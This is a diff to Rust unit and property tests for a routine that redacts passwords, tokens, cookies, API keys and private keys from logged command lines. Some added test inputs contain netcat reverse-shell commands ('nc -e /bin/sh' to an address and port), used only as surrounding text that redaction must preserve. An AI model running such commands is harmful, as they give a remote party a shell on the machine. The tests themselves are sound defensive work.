@@ -66,6 +66,37 @@ fn secrets_go_and_their_surroundings_stay() {
             &["sh", "-c", "export API_KEY='[REDACTED]'; id"],
         ),
         (
+            &["sh", "-c", "PGPASSWORD='two words' psql --token \"a b\" x"],
+            &[
+                "sh",
+                "-c",
+                "PGPASSWORD='[REDACTED]' psql --token \"[REDACTED]\" x",
+            ],
+        ),
+        (
+            &["sh", "-c", "password=x; nc -e /bin/sh 10.0.0.1 4444"],
+            &[
+                "sh",
+                "-c",
+                "password=[REDACTED]; nc -e /bin/sh 10.0.0.1 4444",
+            ],
+        ),
+        (
+            &["curl", "-H", "Cookie: a=b; c=d", "-H", "X-Api-Key: k", "h"],
+            &[
+                "curl",
+                "-H",
+                "Cookie: [REDACTED]",
+                "-H",
+                "X-Api-Key: [REDACTED]",
+                "h",
+            ],
+        ),
+        (
+            &["sh", "-c", "echo cookie: authorization: ; nc -e /bin/sh h"],
+            &["sh", "-c", "echo cookie: authorization: ; nc -e /bin/sh h"],
+        ),
+        (
             &["app", "{\"token\": \"abc\"}"],
             &["app", "{\"token\": \"[REDACTED]\"}"],
         ),
@@ -77,9 +108,13 @@ fn secrets_go_and_their_surroundings_stay() {
             &[
                 "sh",
                 "-c",
-                "echo '-----BEGIN EC PRIVATE KEY-----\nMHQCAQ' > k",
+                "echo '-----BEGIN EC PRIVATE KEY-----\nMHQCAQ\n-----END' > k",
             ],
-            &["sh", "-c", "echo '-----BEGIN EC PRIVATE KEY-----[REDACTED]"],
+            &[
+                "sh",
+                "-c",
+                "echo '-----BEGIN EC PRIVATE KEY-----[REDACTED]-----END' > k",
+            ],
         ),
         (
             &["git", "clone", "ghp_0123456789abcdefghijABCDEFGHIJ"],
@@ -142,7 +177,7 @@ fn the_same_secret_has_the_same_mark_under_one_key() {
     let (one, other) = (keyed(), keyed());
     let first = words(&one, &["mysql", "-phunter2"]);
     let mark = first[1].strip_prefix("-p").unwrap();
-    assert!(mark.starts_with("[REDACTED:") && mark.len() == 19, "{mark}");
+    assert!(mark.starts_with("[REDACTED#") && mark.len() == 19, "{mark}");
     let again = words(&one, &["curl", "https://bob:hunter2@host/"]);
     assert_eq!(again[1], format!("https://bob:{mark}@host/"));
     assert_ne!(words(&one, &["mysql", "-phunter3"])[1], first[1]);
@@ -213,7 +248,7 @@ proptest! {
             prop_oneof![
                 "[^\u{0}]{0,40}",
                 "(--)?(password|token|x)[= :]?[^\u{0}]{0,20}",
-                "(mysql|curl|redis-cli|sshpass|-p|-u|-a|a:b|\\[REDACTED:[0-9a-f]{0,9}\\]?)",
+                "(mysql|curl|redis-cli|sshpass|-p|-u|-a|a:b|\\[REDACTED#[0-9a-f]{0,9}\\]?)",
             ],
             0..12,
         ),
